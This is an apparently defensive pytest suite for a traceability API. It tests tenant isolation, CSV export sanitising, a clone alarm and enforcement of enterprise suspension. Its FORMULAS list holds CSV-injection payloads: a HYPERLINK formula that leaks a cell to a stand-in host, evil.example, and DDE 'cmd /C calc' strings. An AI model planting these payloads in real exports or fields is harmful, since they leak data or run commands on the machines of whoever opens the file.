"""Regression tests for issue 13's findings between enterprises and against the public
pages: tenant isolation, CSV formulas, the clone alarm, suspension. End to end against
the running system; enterprises are registered fresh (custodial: the server signs)."""

from __future__ import annotations

import csv
import io
import secrets
from dataclasses import dataclass
from typing import Any

import httpx
import pytest

from anchoring.core import RecordDomain, TraceRecord, sign_record
from testing.system import RegisteredEnterprise, random_company_prefix, with_check_digit
from tests.adversarial.system import PROBE_TIMEOUT_S, HostileSystem
from tests.trace_api.capture.documents import CONTEXT

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""OWASP CSV injection: a cell starting with one of these is a formula to spreadsheet apps."""
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@dataclass(frozen=True)
class Party:
    """A registered enterprise with one place (GLN) and one product (GTIN) of its own."""

    enterprise: RegisteredEnterprise
    prefix: str
    gln: str
    gtin: str

    @property
    def sgln(self) -> str:
        return f"urn:epc:id:sgln:{self.prefix}.{self.gln[len(self.prefix):12]}.0"

    @property
    def pgln(self) -> str:
        return f"urn:epc:id:pgln:{self.prefix}.{self.gln[len(self.prefix):12]}"

    def lgtin(self, lot: str) -> str:
        return f"urn:epc:class:lgtin:{self.prefix}.0{self.gtin[1 + len(self.prefix):13]}.{lot}"

    def lot_uri(self, lot: str) -> str:
        return f"https://id.gs1.org/01/{self.gtin}/10/{lot}"

    @property
    def headers(self) -> dict[str, str]:
        return {"Authorization": f"Bearer {self.enterprise.api_key}"}


def register(system: HostileSystem, name: str) -> Party:
    prefix = random_company_prefix()
    gln = with_check_digit(prefix + "001")
    enterprise = system.live.enterprise(name=name, prefixes=[prefix], glns=[gln],
                                        custody="custodial")
    return Party(enterprise, prefix, gln, with_check_digit("0" + prefix + "001"))


def object_event(party: Party, lot: str, **members: Any) -> dict[str, Any]:
    return {"type": "ObjectEvent", "eventTime": "2026-11-20T08:00:00.000Z",
            "eventTimeZoneOffset": "+00:00", "epcList": [],
            "quantityList": [{"epcClass": party.lgtin(lot), "quantity": 10, "uom": "KGM"}],
            "readPoint": {"id": party.sgln}, "bizLocation": {"id": party.sgln}, **members}


def capture(system: HostileSystem, party: Party, events: list[dict[str, Any]]) -> httpx.Response:
    document = {"@context": CONTEXT, "type": "EPCISDocument", "schemaVersion": "2.0",
                "creationDate": "2026-11-20T09:00:00.000Z", "epcisBody": {"eventList": events}}
    return httpx.post(f"{system.live.api_url}/v1/capture", json=document, headers=party.headers,
                      timeout=PROBE_TIMEOUT_S)


def accepted_ids(response: httpx.Response) -> list[str]:
    assert response.status_code == 202, response.text
    job = response.json()
    assert job["rejected"] == 0, job
    return [event["eventHashId"] for event in job["events"]]


def refused(response: httpx.Response) -> bool:
    """A capture that recorded nothing: a 4xx, or a job with nothing accepted."""
    if 400 <= response.status_code < 500:
        return True
    return response.status_code == 202 and response.json()["accepted"] == 0


def test_enterprise_b_observe_does_not_leak_a_chain(system: HostileSystem) -> None:
    a, b = register(system, "Farm A"), register(system, "Inspector B")
    customer_gln = with_check_digit(random_company_prefix() + "777")
    customer = f"urn:epc:id:pgln:{customer_gln[:9]}.{customer_gln[9:12]}"  # A's customer C
    purchase_order = f"PO-{secrets.token_hex(4)}"
    lot = "LOT-" + secrets.token_hex(3).upper()
    a_events = accepted_ids(capture(system, a, [
        object_event(a, lot, action="ADD", bizStep="commissioning", disposition="active"),
        object_event(a, lot, action="OBSERVE", bizStep="shipping", disposition="in_transit",
                     sourceList=[{"type": "owning_party", "source": a.pgln}],
                     destinationList=[{"type": "owning_party", "destination": customer}],
                     bizTransactionList=[{"type": "po", "bizTransaction":
                                          f"urn:epcglobal:cbv:bt:{a.gln}:{purchase_order}"}]),
    ]))
    # B speaks neither for A's lot nor for A's place: refused.
    at_a = capture(system, b, [object_event(a, lot, action="OBSERVE", bizStep="inspecting")])
    assert refused(at_a), at_a.text
    # At B's own place B may record what it saw, but that reveals nothing of A's chain.
    own_place = object_event(a, lot, action="OBSERVE", bizStep="inspecting",
                             readPoint={"id": b.sgln}, bizLocation={"id": b.sgln},
                             sensorElementList=[{"sensorReport": [
                                 {"type": "Temperature", "value": 99.5, "uom": "CEL"}]}])
    capture(system, b, [own_place])

    secrets_of_a = [*a_events, customer, customer_gln, customer_gln[:12], purchase_order]
    for direction in ("backward", "forward", "both"):
        trace = httpx.get(f"{system.live.api_url}/v1/trace",
                          params={"id": a.lgtin(lot), "direction": direction},
                          headers=b.headers, timeout=PROBE_TIMEOUT_S)
        assert trace.status_code < 500, trace.text
        leaked = [value for value in secrets_of_a if value in trace.text]
        assert leaked == [], (direction, leaked)
    # A still sees its own chain (the rule is not "nobody sees anything").
    own = httpx.get(f"{system.live.api_url}/v1/trace", params={"id": a.lgtin(lot)},
                    headers=a.headers, timeout=PROBE_TIMEOUT_S)
    assert own.status_code == 200, own.text
    assert all(event_id in own.text for event_id in a_events)
    # A's public page: B is no party of the lot's custody chain, and B's readings are not A's.
    page = httpx.get(f"{system.live.api_url}/v1/public/lookup", params={"uri": a.lot_uri(lot)},
                     timeout=PROBE_TIMEOUT_S)
    assert page.status_code == 200, page.text
    assert "Inspector B" not in page.text
    assert all(reading["value"] != 99.5 for reading in page.json()["sensors"])
    system.verify_alive("cross-enterprise captures and traces")


def test_csv_export_neutralises_formulas(system: HostileSystem) -> None:
    a = register(system, "Formula Foods")
    recorded: list[str] = []
    for number, formula in enumerate(FORMULAS):
        response = capture(system, a, [object_event(
            a, f"F{number}", action="ADD", bizStep="commissioning", disposition="active",
            ilmd={"tl:productDescription": formula})])
        if formula[0] in "=+-@":
            accepted_ids(response)
        if response.status_code == 202 and response.json()["accepted"]:
            recorded.append(formula)
    export = httpx.get(f"{system.live.api_url}/v1/audit/export",
                       params={"format": "csv", "enterprise": a.enterprise.id},
                       headers=a.headers, timeout=PROBE_TIMEOUT_S)
    assert export.status_code == 200, export.text
    cells = [cell for row in csv.reader(io.StringIO(export.text, newline="")) for cell in row]
    for formula in recorded:
        holding = [cell for cell in cells if formula.strip() in cell]
        assert holding, f"{formula!r} is not in the export at all"
        assert all(not cell.startswith(FORMULA_STARTS) for cell in holding), holding


def test_clone_alarm_not_triggered_by_varying_place(system: HostileSystem) -> None:
    """One client, one genuine serial, a made-up `place` per scan (with no authenticator,
    and with a wrong one): never the clone alarm."""
    enterprise1 = system.dev_enterprise("enterprise1")
    prefix = enterprise1["companyPrefixes"][0]
    gtin = with_check_digit(("0" + prefix + secrets.choice("123456789") + "0000")[:13])
    product = {"gtin": gtin, "name": {"en": "Clone bait"}, "productClass": "chilled"}
    created = httpx.post(f"{system.live.api_url}/v1/products", timeout=PROBE_TIMEOUT_S,
                         headers={"Authorization": f"Bearer {enterprise1['apiKey']}"}, json=product)
    if created.status_code == 422:  # self-custody: it signs its master-data record (issue 15)
        to_sign = created.json()["masterData"]
        signature = sign_record(
            TraceRecord(bytes.fromhex(to_sign["eventHash"][2:]), to_sign["submitter"]),
            RecordDomain(system.live.chain_id, system.live.contract_address("TraceAnchor")),
            bytes.fromhex(system.live.dev_keys["enterprise1"]["privateKey"].removeprefix("0x")))
        created = httpx.post(f"{system.live.api_url}/v1/products", timeout=PROBE_TIMEOUT_S,
                             headers={"Authorization": f"Bearer {enterprise1['apiKey']}"},
                             json={**product, "issuedAt": to_sign["record"]["issuedAt"],
                                   "signature": "0x" + signature.hex()})
    assert created.status_code in (200, 201, 409), created.text
    serial = secrets.token_hex(4)
    for auth in ("", "?auth=ZZZZZZZZ"):
        uri = f"https://id.gs1.org/01/{gtin}/21/{serial}{auth}"
        for scan in range(12):
            view = httpx.get(f"{system.live.api_url}/v1/public/lookup",
                             params={"uri": uri, "place": f"CITY-{scan:03d}"},
                             timeout=PROBE_TIMEOUT_S)
            assert view.status_code == 200, view.text
            assert view.json()["authenticity"]["cloneAlarm"] is False, (auth, scan, view.json())


def test_suspended_enterprise_cannot_write(system: HostileSystem) -> None:
    party = register(system, "Suspended Co")
    regulator = system.live.auth(system.live.regulator_token())
    suspended = httpx.post(
        f"{system.live.api_url}/v1/enterprises/{party.enterprise.id}/suspension",
        json={"reason": "adversarial suite: suspended for the test"}, headers=regulator,
        timeout=60)
    assert suspended.status_code == 200, suspended.text
    lot_uri = party.lot_uri("L1")
    writes: list[tuple[str, str, dict[str, Any]]] = [
        ("POST", "/v1/api-keys", {"json": {"name": "a second key"}}),
        ("POST", "/v1/products", {"json": {"gtin": party.gtin, "name": {"en": "x"},
                                           "productClass": "chilled"}}),
        ("GET", "/v1/labels", {"params": {"uri": lot_uri}}),
        ("POST", "/v1/labels/batch", {"json": {"gtin": party.gtin, "lot": "L1", "serials": "1-2",
                                               "format": "pdf"}}),
        ("POST", "/v1/capture", {"json": {
            "@context": CONTEXT, "type": "EPCISDocument", "schemaVersion": "2.0",
            "creationDate": "2026-11-20T09:00:00.000Z", "epcisBody": {"eventList": [
                object_event(party, "L1", action="ADD", bizStep="commissioning")]}}}),
        ("POST", "/v1/recalls", {"json": {"uri": lot_uri, "class": "II", "reason": "x"}}),
        ("POST", f"/v1/enterprises/{party.enterprise.id}/key-rotation", {}),
    ]
    allowed = []
    for method, path, arguments in writes:
        response = httpx.request(method, f"{system.live.api_url}{path}", headers=party.headers,
                                 timeout=PROBE_TIMEOUT_S, **arguments)
        if response.status_code != 403 or not response.json().get("type", "").endswith(
                "enterprise-suspended"):
            allowed.append(f"{method} {path}: {response.status_code} {response.text[:200]}")
    assert allowed == []
    # Reading stays open (its own enterprise record says it is suspended).
    mine = httpx.get(f"{system.live.api_url}/v1/enterprises/{party.enterprise.id}",
                     headers=party.headers, timeout=PROBE_TIMEOUT_S)
    assert mine.status_code == 200 and mine.json()["status"] == "suspended", mine.text


@pytest.fixture(autouse=True)
def _alive_after(system: HostileSystem) -> Any:
    yield
    system.verify_alive("the test")


def test_enterprise2_cannot_act_on_enterprise1s_identifiers(system: HostileSystem) -> None:
    """Every write or private read naming enterprise1 (its id, GTIN, lot), sent with
    enterprise2's key and an otherwise valid request: 403 (or 404), never done."""
    one, two = system.dev_enterprise("enterprise1"), system.dev_enterprise("enterprise2")
    prefix = one["companyPrefixes"][0]
    gtin = with_check_digit(("0" + prefix + "99999")[:13])
    lot_uri = f"https://id.gs1.org/01/{gtin}/10/LOT-A1"
    requests: list[tuple[str, str, dict[str, Any]]] = [
        ("POST", "/v1/products", {"json": {"gtin": gtin, "name": {"en": "x"},
                                           "productClass": "chilled"}}),
        ("POST", "/v1/api-keys", {"json": {"name": "x", "enterpriseId": one["enterpriseId"]}}),
        ("GET", "/v1/labels", {"params": {"uri": lot_uri}}),
        ("POST", "/v1/labels/batch", {"json": {"gtin": gtin, "lot": "LOT-A1", "serials": "1-2",
                                               "format": "pdf"}}),
        ("POST", "/v1/recalls", {"json": {"uri": lot_uri, "class": "II", "reason": "x"}}),
        ("POST", f"/v1/enterprises/{one['enterpriseId']}/key-rotation", {}),
        ("POST", f"/v1/enterprises/{one['enterpriseId']}/suspension", {"json": {"reason": "x"}}),
        ("GET", "/v1/audit/export", {"params": {"enterprise": one["enterpriseId"]}}),
        ("GET", "/v1/audit/findings", {"params": {"enterprise": one["enterpriseId"]}}),
    ]
    done = []
    for method, path, arguments in requests:
        response = httpx.request(method, f"{system.live.api_url}{path}", timeout=PROBE_TIMEOUT_S,
                                 headers={"Authorization": f"Bearer {two['apiKey']}"}, **arguments)
        if response.status_code not in (403, 404):
            done.append(f"{method} {path}: {response.status_code} {response.text[:200]}")
    assert done == []
